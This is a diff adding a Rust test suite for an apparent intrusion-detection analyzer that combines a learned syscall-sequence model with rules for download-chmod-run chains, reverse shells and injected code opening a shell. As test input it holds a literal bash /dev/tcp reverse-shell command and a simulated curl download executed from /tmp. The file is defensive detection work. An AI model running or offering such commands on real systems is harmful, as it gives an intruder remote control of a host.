@@ -1,0 +1,373 @@
+//! Sequences as an analyzer: a trained model, written rules, and what is promised.
+
+use std::sync::Arc;
+
+use amoskys_analysis::model::{ModelFile, Origin};
+use amoskys_analysis::sequence::{
+    Example, SequenceAnalyzer, SequenceAnalyzerParams, SequenceModel, SequenceParams, TraceParams,
+    pattern_rules,
+};
+use amoskys_core::event::{
+    ActivityAction, ActivityEvent, Ancestor, Layer, ProcessAction, ProcessEvent, SyscallEvent, Verdict,
+};
+use amoskys_core::{
+    Analyzer, Class, Epoch, Event, EventId, Observation, Payload, Recorded, Seq, StreamId, Timestamp,
+};
+
+/// Traces of made programs: each repeats routines of its own, in varying order.
+fn normal(count: u32) -> Vec<(String, Vec<u32>)> {
+    let mut state = 7_u32;
+    let mut random = move |below: u32| {
+        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
+        (state >> 8) % below
+    };
+    let trace = |n| {
+        let program = n % 6;
+        let mut calls = vec![11, 45, 33];
+        for _ in 0..20 + random(20) {
+            let routine = program * 4 + random(4);
+            calls.extend((0..4 + routine % 3).map(|step| (routine * 7 + step * 5) % 60));
+        }
+        calls.push(252);
+        (format!("program{program}"), calls)
+    };
+    (0..count).map(trace).collect()
+}
+
+fn model() -> SequenceModel {
+    let traces = normal(600);
+    let examples: Vec<Example<'_>> = traces
+        .iter()
+        .map(|(program, calls)| Example { program, calls })
+        .collect();
+    SequenceParams {
+        false_alarms: 0.05,
+        ..SequenceParams::default()
+    }
+    .fit(&examples)
+    .unwrap()
+}
+
+/// What an intruder's process does: calls that no program makes.
+fn odd() -> Vec<u32> {
+    (0..300).map(|n| 100 + (n * n) % 37).collect()
+}
+
+struct Log(Vec<Recorded>);
+
+impl Log {
+    fn add(&mut self, seconds: f64, payload: Payload) {
+        let n = self.0.len() as u64;
+        let stream = StreamId {
+            agent: "host".into(),
+            epoch: Epoch::default(),
+            class: Class::Bulk,
+        };
+        self.0.push(Recorded {
+            timeline: 0,
+            stream: Arc::new(stream),
+            seq: Seq(n),
+            event: Event {
+                id: EventId {
+                    origin: 3,
+                    ordinal: n,
+                },
+                time: Timestamp::from_nanos(1_700_000_000_000_000_000 + (seconds * 1e9) as i64),
+                device: "host".into(),
+                payload,
+                ..Event::default()
+            },
+        });
+    }
+
+    fn calls(&mut self, seconds: f64, pid: u32, command: &str, calls: &[u32]) {
+        for (n, numbers) in (0_u64..).zip(calls.chunks(50)) {
+            let event = SyscallEvent {
+                pid,
+                tid: pid,
+                command: command.to_owned(),
+                numbers: numbers.to_vec(),
+                first: n * 50,
+                ..SyscallEvent::default()
+            };
+            self.add(seconds, Payload::Syscall(Box::new(event)));
+        }
+    }
+
+    fn process(&mut self, seconds: f64, action: ProcessAction, pid: u32, parent: u32, line: &[&str]) {
+        let event = ProcessEvent {
+            action,
+            pid,
+            parent_pid: parent,
+            executable: line.first().copied().unwrap_or_default().to_owned(),
+            arguments: line.iter().map(|word| (*word).to_owned()).collect(),
+            ..ProcessEvent::default()
+        };
+        self.add(seconds, Payload::Process(Box::new(event)));
+    }
+
+    fn activity(&mut self, seconds: f64, pid: u32, parent: u32, change: impl FnOnce(&mut ActivityEvent)) {
+        let ancestors = vec![Ancestor {
+            pid: parent,
+            ..Ancestor::default()
+        }];
+        let mut event = ActivityEvent {
+            pid,
+            ancestors,
+            result: Some(0),
+            ..ActivityEvent::default()
+        };
+        change(&mut event);
+        self.add(seconds, Payload::Activity(Box::new(event)));
+    }
+}
+
+fn feed(analyzer: &mut SequenceAnalyzer, log: &Log) -> Vec<Verdict> {
+    let mut verdicts = Vec::new();
+    for event in &log.0 {
+        analyzer
+            .observe(Observation::Event(event), &mut verdicts)
+            .unwrap();
+    }
+    verdicts
+}
+
+fn analyzer(model: Option<SequenceModel>) -> SequenceAnalyzer {
+    SequenceAnalyzer::new(model, SequenceAnalyzerParams::default()).unwrap()
+}
+
+fn techniques(log: &Log) -> Vec<String> {
+    let verdicts = feed(&mut analyzer(None), log);
+    assert!(
+        verdicts
+            .iter()
+            .all(|verdict| verdict.layer == Layer::Rule && verdict.is_alert())
+    );
+    verdicts
+        .iter()
+        .map(|v| v.technique.as_ref().unwrap().as_str().to_owned())
+        .collect()
+}
+
+#[test]
+fn a_process_unlike_all_others_is_found_and_new_honest_ones_are_not() {
+    let model = model();
+    let mut log = Log(Vec::new());
+    let mut honest = 0;
+    for (n, (program, calls)) in (0_u32..).zip(normal(700).into_iter().skip(600)) {
+        log.calls(f64::from(n), 100 + n, &program, &calls);
+        log.process(f64::from(n) + 0.5, ProcessAction::Exit, 100 + n, 1, &[]);
+        honest += 1;
+    }
+    let found = feed(&mut analyzer(Some(model.clone())), &log);
+    assert!(found.len() <= honest / 8, "{} of {honest}", found.len());
+
+    let mut log = Log(Vec::new());
+    log.calls(0.0, 9, "program1", &odd());
+    log.process(1.0, ProcessAction::Exit, 9, 1, &[]);
+    let found = feed(&mut analyzer(Some(model.clone())), &log);
+    assert_eq!(found.len(), 1);
+    assert_eq!(found[0].layer, Layer::Behavioral);
+    assert!(found[0].title.contains("program1") && !found[0].evidence.is_empty());
+    let surprising = model.surprising("program1", &odd(), 5);
+    assert_eq!(surprising.len(), 5);
+    assert!(surprising[0].2 > 5.0);
+}
+
+#[test]
+fn it_keeps_the_promises_of_an_analyzer() {
+    let model = model();
+    let mut log = Log(Vec::new());
+    log.calls(0.0, 9, "program1", &odd());
+    log.calls(0.5, 8, "program2", &normal(1)[0].1);
+    log.activity(0.6, 9, 1, |a| {
+        (a.action, a.path) = (ActivityAction::FileCreate, "/tmp/x".into())
+    });
+    log.activity(0.7, 9, 1, |a| {
+        (a.action, a.path, a.number) = (ActivityAction::FileMode, "/tmp/x".into(), 0o755);
+    });
+    log.process(1.0, ProcessAction::Exit, 9, 1, &[]);
+    log.process(1.5, ProcessAction::Exec, 12, 9, &["/tmp/x"]);
+    log.calls(2.0, 8, "program2", &odd());
+    log.process(3.0, ProcessAction::Exit, 8, 1, &[]);
+    assert_eq!(feed(&mut analyzer(Some(model.clone())), &log).len(), 3);
+    amoskys_core::conformance::analyzer(|| analyzer(Some(model.clone())), &log.0);
+}
+
+#[test]
+fn a_long_process_is_judged_in_stretches_and_lost_calls_cut_it() {
+    let model = model();
+    let params = SequenceAnalyzerParams {
+        stretch: 100,
+        ..SequenceAnalyzerParams::default()
+    };
+    let mut log = Log(Vec::new());
+    log.calls(0.0, 9, "p", &odd());
+    let mut stretches = SequenceAnalyzer::new(Some(model.clone()), params).unwrap();
+    assert_eq!(feed(&mut stretches, &log).len(), 3);
+    let mut log = Log(Vec::new());
+    log.calls(0.0, 9, "p", &odd()[..100]);
+    let gap = SyscallEvent {
+        pid: 9,
+        tid: 9,
+        numbers: vec![1; 10],
+        first: 5_000,
+        ..SyscallEvent::default()
+    };
+    log.add(1.0, Payload::Syscall(Box::new(gap)));
+    assert_eq!(feed(&mut analyzer(Some(model)), &log).len(), 1);
+}
+
+#[test]
+fn a_model_file_gives_back_the_model() {
+    let model = model();
+    let file = model.to_file("calls", "1", Origin::default()).unwrap();
+    let bytes = file.to_bytes().unwrap();
+    let back = SequenceModel::of_file(&ModelFile::from_bytes(&bytes).unwrap()).unwrap();
+    assert_eq!(back, model);
+    let calls = odd();
+    let score = |model: &SequenceModel| model.traces().scorer().score(&calls).value.to_bits();
+    assert_eq!(score(&back), score(&model));
+    let mut without = ModelFile::new("calls", "1", file.schema.clone(), Origin::default());
+    assert!(SequenceModel::of_file(&without).is_err());
+    without.schema = amoskys_analysis::evidence_schema().as_ref().clone();
+    assert!(SequenceModel::of_file(&without).is_err());
+    let other = analyzer(None).model().digest;
+    assert_ne!(analyzer(Some(model)).model().digest, other);
+}
+
+#[test]
+fn download_chmod_run_is_found_across_processes_and_only_for_one_file() {
+    let steps = |run: &str| {
+        let mut log = Log(Vec::new());
+        log.process(
+            0.0,
+            ProcessAction::Exec,
+            20,
+            10,
+            &["/usr/bin/curl", "-o", "/tmp/a"],
+        );
+        log.activity(1.0, 20, 10, |a| {
+            (a.action, a.path) = (ActivityAction::FileCreate, "/tmp/a".into())
+        });
+        log.activity(2.0, 21, 10, |a| {
+            (a.action, a.path, a.number) = (ActivityAction::FileMode, "/tmp/a".into(), 0o755);
+        });
+        log.process(3.0, ProcessAction::Exec, 22, 10, &[run]);
+        log
+    };
+    assert_eq!(techniques(&steps("/tmp/a")), ["T1105"]);
+    assert!(techniques(&steps("/tmp/b")).is_empty());
+    assert!(techniques(&steps("/usr/bin/less")).is_empty());
+}
+
+#[test]
+fn reverse_shells_are_found_and_shells_are_not() {
+    let mut log = Log(Vec::new());
+    log.process(
+        0.0,
+        ProcessAction::Exec,
+        5,
+        1,
+        &["/bin/bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"],
+    );
+    assert_eq!(techniques(&log), ["T1059.004"]);
+
+    let mut log = Log(Vec::new());
+    log.process(0.0, ProcessAction::Exec, 5, 1, &["/dev/shm/x"]);
+    log.activity(1.0, 5, 1, |a| {
+        (a.action, a.remote_address, a.remote_port) =
+            (ActivityAction::Connect, Some([198, 51, 100, 9].into()), 4444);
+        a.result = Some(-115);
+    });
+    log.process(2.0, ProcessAction::Exec, 6, 5, &["/bin/sh", "-i"]);
+    assert_eq!(techniques(&log), ["T1059.004"]);
+
+    let mut log = Log(Vec::new());
+    log.process(0.0, ProcessAction::Exec, 5, 1, &["/bin/bash", "-c", "make all"]);
+    log.activity(1.0, 5, 1, |a| {
+        (a.action, a.remote_address) = (ActivityAction::Connect, Some([198, 51, 100, 9].into()));
+    });
+    log.process(2.0, ProcessAction::Exec, 6, 5, &["/bin/sh", "-i"]);
+    assert!(techniques(&log).is_empty());
+}
+
+#[test]
+fn written_code_that_calls_out_and_opens_a_shell_is_found_in_time_only() {
+    let steps = |late: f64| {
+        let mut log = Log(Vec::new());
+        log.activity(0.0, 5, 1, |a| a.action = ActivityAction::WritableCode);
+        log.activity(1.0, 5, 1, |a| {
+            (a.action, a.remote_address) = (ActivityAction::Connect, Some([198, 51, 100, 9].into()));
+        });
+        log.process(2.0 + late, ProcessAction::Exec, 6, 5, &["/bin/sh"]);
+        log
+    };
+    assert_eq!(techniques(&steps(0.0)), ["T1055"]);
+    assert!(techniques(&steps(100.0)).is_empty());
+}
+
+#[test]
+fn rules_are_unique_and_readable() {
+    let rules = pattern_rules();
+    let text = serde_json::to_string(&rules).unwrap();
+    assert_eq!(
+        serde_json::from_str::<Vec<amoskys_analysis::sequence::PatternRule>>(&text).unwrap(),
+        rules
+    );
+    for (at, rule) in rules.iter().enumerate() {
+        assert!(rules[..at].iter().all(|other| other.name != rule.name));
+    }
+}
+
+#[test]
+fn memory_stays_bounded() {
+    let params = SequenceAnalyzerParams {
+        processes: 50,
+        ..SequenceAnalyzerParams::default()
+    };
+    let mut analyzer = SequenceAnalyzer::new(Some(model()), params).unwrap();
+    let mut log = Log(Vec::new());
+    for pid in 0..2_000 {
+        log.calls(f64::from(pid), pid, "p", &[1, 2, 3]);
+        log.activity(f64::from(pid), pid, 1, |a| {
+            a.action = ActivityAction::WritableCode
+        });
+    }
+    feed(&mut analyzer, &log);
+    assert!(analyzer.evicted() > 1_900);
+    assert!(analyzer.snapshot().unwrap().len() < 50_000);
+}
+
+#[test]
+fn traces_too_short_say_nothing_and_bad_settings_are_refused() {
+    let model = TraceParams::default().fit(&[vec![1, 2, 3, 4]]).unwrap();
+    assert_eq!(model.scorer().score(&[9, 9]).value, 0.0);
+    assert_eq!(model.scorer().score(&[]).value, 0.0);
+    assert!(TraceParams::default().fit(&[vec![1, 2]]).is_err());
+    assert!(
+        TraceParams {
+            order: 9,
+            ..TraceParams::default()
+        }
+        .fit(&[vec![1; 20]])
+        .is_err()
+    );
+    assert!(
+        TraceParams {
+            evidence: f64::NAN,
+            ..TraceParams::default()
+        }
+        .fit(&[vec![1; 20]])
+        .is_err()
+    );
+    let params = SequenceAnalyzerParams {
+        stretch: 1,
+        ..SequenceAnalyzerParams::default()
+    };
+    assert!(SequenceAnalyzer::new(None, params).is_err());
+    assert_eq!(
+        model.unknown_runs(&[1, 2, 3, 7, 7, 7, 7]),
+        [(vec![7, 7, 7], 2), (vec![2, 3, 7], 1), (vec![3, 7, 7], 1),]
+    );
+}
